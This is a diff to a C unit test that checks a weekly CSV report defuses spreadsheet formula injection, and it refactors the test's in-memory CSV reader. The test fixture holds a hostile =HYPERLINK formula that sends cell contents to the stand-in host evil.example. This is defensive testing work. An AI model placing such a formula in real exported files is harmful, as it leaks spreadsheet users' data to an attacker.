@@ -3,6 +3,7 @@
 #include <jansson.h>
 #include "report_fixture.h"
 #include "halaltrack/csv.h"
+#include "csv_mem.h"
 #include <dirent.h>
 #include <sys/stat.h>
 #include <unistd.h>
@@ -399,6 +400,7 @@ Test(report_weekly, csv_formula_injection_is_defused)
     static const char *const hostile =
         "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")";
     char *out, sql[256];
+    struct csv_mem m;
     struct csv_reader *r;
     struct csv_record rec;
     struct ht_err err = HT_ERR_INIT;
@@ -412,8 +414,8 @@ Test(report_weekly, csv_formula_injection_is_defused)
     pgt_exec("UPDATE msme SET business_name = '-2+3' WHERE nib = '3575020000004'");
     out = weekly(RF_NOW, "en", NULL, "csv");
     cr_assert(strstr(out, "\"'=HYPERLINK(\"\"http://evil.example/"), "%s", out);
-    r = csv_reader_new_mem(out, strlen(out), NULL);
-    cr_assert(r);
+    cr_assert_eq(csv_mem_open(&m, out, strlen(out), NULL), 0);
+    r = m.r;
     while (csv_next(r, &rec, &err) == CSV_OK) {
         for (size_t i = 0; i < rec.nfields; i++) {
             const char *f = rec.fields[i];
@@ -426,7 +428,7 @@ Test(report_weekly, csv_formula_injection_is_defused)
         }
     }
     cr_assert_geq(seen, 2, "the hostile names are in the sheet, defused:\n%s", out);
-    csv_reader_free(r);
+    csv_mem_close(&m);
     free(out);
 }
 
